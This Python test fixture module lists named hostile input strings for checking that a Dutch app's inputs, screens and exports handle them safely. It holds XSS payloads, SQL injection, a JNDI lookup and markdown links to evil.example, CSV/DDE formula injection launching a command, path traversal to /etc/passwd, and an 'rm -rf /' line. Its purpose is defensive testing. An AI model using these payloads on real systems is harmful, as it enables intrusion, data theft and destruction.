"""Hostile strings that every text input, screen, PDF and export must survive.

Import it from any test: ``from hostile import HOSTILE`` (name -> string). Each one
must either be stored and shown as plain text, or be refused with a clear Dutch
message; never crash, never render as HTML or Markdown, never run as SQL.
"""

from __future__ import annotations

HOSTILE: dict[str, str] = {
    # HTML and script
    "script_tag": "<script>alert('xss')</script>",
    "img_onerror": '<img src=x onerror="alert(document.cookie)">',
    "svg_onload": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "style_tag": "<style>body { display: none }</style>Niets te zien",
    "html_markup": "<b>vet</b> <i>schuin</i> <a href='https://evil.example'>link</a> </div></div>",
    "html_entities": "&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &nbsp;",
    "html_comment": "<!-- verborgen --> zichtbaar -->",
    "javascript_url": "javascript:alert(document.domain)",
    # Markdown (and Streamlit's markdown extensions)
    "md_link": "[Klik hier voor je beloning](https://evil.example/login)",
    "md_js_link": "[klik](javascript:alert(1)) <https://evil.example>",
    "md_image": "![pixel](https://evil.example/track.png)",
    "md_headings": "# KOP\n## Nog een kop\n======",
    "md_mixed": "**vet** _schuin_ `code` ~~weg~~\n> citaat\n- lijst\n1. genummerd\n\n---",
    "md_table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "md_code_fence": "```python\nimport os\nos.system('rm -rf /')\n```",
    "streamlit_directives": ":red[rood] :material/warning: $\\LaTeX$ $$x^2$$ :smile:",
    # Size
    "long_100k": "a" * 100_000,
    "long_words_100k": ("woord " * 16_667)[:100_000],
    "over_note_limit": "x" * 281,
    "at_note_limit": "y" * 280,
    # NUL and control characters
    "nul_inside": "voor\x00na",
    "only_nul": "\x00\x00\x00",
    "c0_c1_controls": "a\x01b\x02c\x07d\x08e\x0bf\x0cg\x1bh\x7fi\x85j\x9fk",
    "ansi_escape": "\x1b[31mrood\x1b[0m \x1b]0;titel\x07 normaal",
    "newlines_tabs": "regel1\r\nregel2\rregel3\n\tingesprongen\tmet tab",
    "only_whitespace": " \t\n \u00a0 \u3000 \u2003 ",
    "line_separators": "een\u2028twee\u2029drie",
    # Right-to-left, emoji and zero-width
    "rtl_arabic": "مرحبا بالعالم، كيف حالك؟",
    "rtl_hebrew_mixed": "שלום world 123 שלום",
    "bidi_override": "\u202egnp.exe\u202c factuur",
    "bidi_isolates": "\u2066abc\u2069 \u2067def\u2069 \u2068ghi\u2069",
    "emoji": "👍🏽 🎉 👨‍👩‍👧‍👦 🇳🇱 ❤️",
    "emoji_only": "🔥",
    "zero_width_inside": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "zero_width_only": "\u200b\u200c\u200d\ufeff\u2060",
    "combining_zalgo": "Z\u0338\u0321\u0322\u0354a\u0337\u031b\u035al\u0335\u0322g\u0334\u0354o\u0335\u031f",
    "nfd_accents": "Cafe\u0301 ree\u0308el ingenieu\u0308r",
    "lone_surrogate": "a\ud800b\udfffc",
    "noncharacters": "\uffff\ufffe\U0010ffff\ue000",
    "homoglyphs": "раураl.com Аdmin",  # Cyrillic letters
    "fullwidth": "ＳＥＬＥＣＴ ＜ｓｃｒｉｐｔ＞",
    # SQL-looking and other injection-looking text
    "sql_drop": "Robert'); DROP TABLE contributions;--",
    "sql_or": "' OR '1'='1' --",
    "sql_union": "1; SELECT secret_hash FROM workshops UNION SELECT token FROM participants",
    "sql_comment_quote": "/* */ \"; DELETE FROM votes WHERE ''='",
    "format_strings": "{0} {label} {limit!r} %s %(x)s {{}} ${jndi:ldap://evil.example/a}",
    "csv_formula": '=HYPERLINK("https://evil.example","klik")',
    "csv_formula_cmd": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path_traversal": "../../../../etc/passwd",
    "json_like": '{"__proto__": {"admin": true}, "version": 999}',
    "backslashes_quotes": "\\\"'`\\n\\x00 \\u202e",
    "url_only": "https://evil.example/?q=<script>",
    # and an ordinary Dutch sentence, to prove the checks are not trivially refusing
    "dutch_normal": "Samen opleiden in de regio – ‘goed’ en “beter”: €25, één café",
}

assert len(HOSTILE) >= 30
